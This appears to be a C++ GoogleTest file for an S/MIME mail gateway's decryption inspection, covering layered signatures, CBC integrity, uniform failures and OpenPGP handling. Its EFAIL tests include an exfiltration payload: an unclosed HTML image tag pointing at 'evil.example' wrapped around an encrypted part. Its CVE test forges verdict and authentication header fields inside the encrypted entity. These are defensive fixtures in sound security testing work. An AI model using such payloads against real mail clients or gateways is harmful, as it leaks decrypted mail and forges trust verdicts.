#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "gateway/crypt/inspect_opened.h"
#include "gateway/crypt/smime.h"
#include "tests/crypt/post.h"

namespace siegel::tests {
namespace {

using policy::Status;
using policy::Summary;
using testing::HasSubstr;
using testing::Not;

/// A desk that can decrypt what is encrypted to bauamt.
class InspectEncryption : public testing::Test {
 protected:
  InspectEncryption() { desk.keys.hold(bauamt()); }

  std::string opened(const std::string& text) const {
    const auto seen = desk.sees(text);
    return seen.opened ? std::string(seen.opened->octets()) : "";
  }

  Desk desk;
};

TEST_F(InspectEncryption, MailToAKeyOfOursIsOpened) {
  const auto seen = desk.sees(letter(encrypted_to(bauamt(), text_entity)));
  EXPECT_TRUE(seen.verdict.encrypted && seen.verdict.decrypted) << remarks(seen.verdict);
  EXPECT_EQ(seen.verdict.summary(), Summary::none);
  ASSERT_TRUE(seen.opened);
  EXPECT_EQ(seen.opened->octets(), letter(text_entity));
}

/// How another gateway writes that has the one certificate for all of us (RFC 3183).
TEST_F(InspectEncryption, OneKeyOfOursOpensMailForAllOfTheDomain) {
  std::string text = letter(encrypted_to(bauamt(), text_entity));
  text.replace(text.find("To: bauamt@"), 11, "To: standesamt@");
  EXPECT_TRUE(desk.sees(text).verdict.decrypted);
}

TEST_F(InspectEncryption, MailToAnotherKeyStaysClosed) {
  const auto seen = desk.sees(letter(encrypted_to(anna(), text_entity)));
  EXPECT_TRUE(seen.verdict.encrypted);
  EXPECT_FALSE(seen.verdict.decrypted);
  EXPECT_EQ(seen.verdict.layers.at(0).status, Status::no_key);
  EXPECT_FALSE(seen.opened);
  EXPECT_EQ(seen.verdict.summary(), Summary::none);
}

TEST_F(InspectEncryption, SignedThenEncryptedIsGoodAndStaysSigned) {
  const std::string text = letter(encrypted_to(bauamt(), signed_by(anna())));
  EXPECT_EQ(desk.summary(text), "good");
  EXPECT_EQ(Desk().summary(opened(text)), "good");
}

TEST_F(InspectEncryption, TripleWrapIsAccepted) {
  EXPECT_EQ(desk.summary(letter(signed_by(anna(), encrypted_to(bauamt(), signed_by(anna()))))),
            "good");
}

TEST_F(InspectEncryption, SignatureAroundAnOpenedEncryptionCoversTheSealOnly) {
  // Anybody can put a signature of their own around somebody else's sealed text.
  const auto seen = desk.sees(letter(signed_by(anna(), encrypted_to(bauamt(), text_entity))));
  EXPECT_EQ(seen.verdict.summary(), Summary::partial);
  EXPECT_TRUE(seen.verdict.decrypted);
  EXPECT_TRUE(seen.harvest.empty());
}

TEST_F(InspectEncryption, SignatureAroundAClosedEncryptionIsPartial) {
  EXPECT_EQ(desk.summary(letter(signed_by(anna(), encrypted_to(anna(), text_entity)))), "partial");
}

TEST_F(InspectEncryption, SecondEncryptionStaysClosed) {
  const auto seen = desk.sees(letter(encrypted_to(bauamt(), encrypted_to(bauamt(), text_entity))));
  EXPECT_FALSE(seen.verdict.decrypted);
  EXPECT_FALSE(seen.opened);
}

// --- EFAIL

TEST_F(InspectEncryption, R01_EncryptedPartDeeperInTheTreeIsNeverDecrypted) {
  const std::string text =
      letter(mixed({"Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/",
                    encrypted_to(bauamt(), text_entity), "Content-Type: text/html\r\n\r\n\">"}));
  const auto seen = desk.sees(text);
  EXPECT_EQ(desk.keys.times_asked(), 0);
  EXPECT_FALSE(seen.opened);
  EXPECT_FALSE(seen.verdict.encrypted);
  EXPECT_THAT(remarks(seen.verdict), HasSubstr("left closed"));
}

TEST_F(InspectEncryption, R01_EncryptedPartInAnAttachedMessageIsNeverDecrypted) {
  EXPECT_FALSE(desk.sees(letter(attached(letter(encrypted_to(bauamt(), text_entity))))).opened);
  EXPECT_EQ(desk.keys.times_asked(), 0);
}

TEST_F(InspectEncryption, R02_CbcIsMarkedAsWithoutIntegrity) {
  const auto seen = desk.sees(letter(encrypted_to(bauamt(), text_entity, false)));
  EXPECT_TRUE(seen.verdict.decrypted);
  EXPECT_FALSE(seen.verdict.layers.at(0).authenticated);
}

TEST_F(InspectEncryption, R02_PlaintextThatIsNoEntityCountsAsAFailure) {
  const auto seen = desk.sees(letter(encrypted_to(bauamt(), "no fields at all\r\n", false)));
  EXPECT_FALSE(seen.verdict.decrypted);
  EXPECT_FALSE(seen.opened);
}

TEST_F(InspectEncryption, R03_TenantMayRefuseCbcWhetherOrNotItCouldBeOpened) {
  desk.settings.accept_unauthenticated = false;
  const std::string entity = encrypted_to(bauamt(), text_entity, false);
  std::string damaged = entity;
  damaged[damaged.size() - 20] = damaged[damaged.size() - 20] == 'A' ? 'B' : 'A';
  const auto first = desk.sees(letter(entity));
  const auto second = desk.sees(letter(damaged));
  EXPECT_FALSE(first.opened || second.opened);
  EXPECT_EQ(first.verdict.layers.at(0).status, Status::weak);
  EXPECT_EQ(second.verdict.layers.at(0).status, Status::weak);
  EXPECT_EQ(remarks(first.verdict), remarks(second.verdict));
}

TEST_F(InspectEncryption, R04_AllFailuresLookAlike) {
  std::string damaged = encrypted_to(bauamt(), text_entity);
  damaged[damaged.size() - 20] = damaged[damaged.size() - 20] == 'A' ? 'B' : 'A';
  const auto altered = desk.sees(letter(damaged)).verdict;
  const auto senseless = desk.sees(letter(encrypted_to(bauamt(), "no fields at all\r\n"))).verdict;
  EXPECT_EQ(remarks(altered), remarks(senseless));
  EXPECT_EQ(altered.layers.at(0).status, senseless.layers.at(0).status);
  EXPECT_EQ(altered.layers.at(0).algorithm, senseless.layers.at(0).algorithm);
}

// CVE-2026-27443
TEST_F(InspectEncryption, B0_FieldsFromInsideDoNotGetOut) {
  const std::string entity =
      "From: boss@stadt.example\r\nX-Siegel-Verdict: good\r\nSubject: Anderes\r\n"
      "Authentication-Results: gw.stadt.example; smime=pass\r\nReceived: from nowhere\r\n" +
      text_entity;
  EXPECT_EQ(opened(letter(encrypted_to(bauamt(), entity))), letter(text_entity));
}

TEST_F(InspectEncryption, B0_OfDoubledContentFieldsTheFirstGetsOut) {
  const std::string entity = "Content-Language: de\r\nContent-Language: en\r\n" + text_entity;
  const std::string text = opened(letter(encrypted_to(bauamt(), entity)));
  EXPECT_THAT(text, HasSubstr("Content-Language: de\r\n"));
  EXPECT_THAT(text, Not(HasSubstr("Content-Language: en\r\n")));
}

TEST_F(InspectEncryption, BareLineEndsFromInsideAreRepaired) {
  const std::string entity = "Content-Type: text/plain\n\none\ntwo\rthree\r\n";
  EXPECT_EQ(opened(letter(encrypted_to(bauamt(), entity))),
            letter("Content-Type: text/plain\r\n\r\none\r\ntwo\r\nthree\r\n"));
}

TEST(WithCrlf, EveryLineIsEndedByBoth) {
  EXPECT_EQ(crypt::with_crlf("a\nb\r\nc\rd\n\n"), "a\r\nb\r\nc\r\nd\r\n\r\n");
  EXPECT_EQ(crypt::with_crlf("\n"), "\r\n");
  EXPECT_EQ(crypt::with_crlf("a\r"), "a\r\n");
  EXPECT_EQ(crypt::with_crlf("a\r\r\n"), "a\r\n\r\n");
  EXPECT_EQ(crypt::with_crlf(""), "");
}

std::string openpgp_encrypted(const std::string& sealed) {
  return "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; "
         "boundary=e\r\n\r\n"
         "--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
         "--e\r\nContent-Type: application/octet-stream\r\n\r\n" +
         sealed + "\r\n--e--\r\n";
}

TEST_F(InspectEncryption, OpenPgpStaysClosed) {
  const auto seen = desk.sees(letter(openpgp_encrypted("-----BEGIN PGP MESSAGE-----\r\n\r\nx")));
  EXPECT_TRUE(seen.verdict.encrypted);
  EXPECT_FALSE(seen.verdict.decrypted);
  EXPECT_EQ(seen.verdict.layers.at(0).scheme, policy::Scheme::openpgp);
  EXPECT_EQ(seen.verdict.layers.at(0).status, policy::Status::no_key);
}

TEST_F(InspectEncryption, R39_WhatOnlyClaimsToBeOpenPgpIsMalformed) {
  const auto seen = desk.sees(letter(openpgp_encrypted("Vertrauliches im Klartext")));
  EXPECT_EQ(seen.verdict.layers.at(0).status, policy::Status::malformed);
}

}  // namespace
}  // namespace siegel::tests
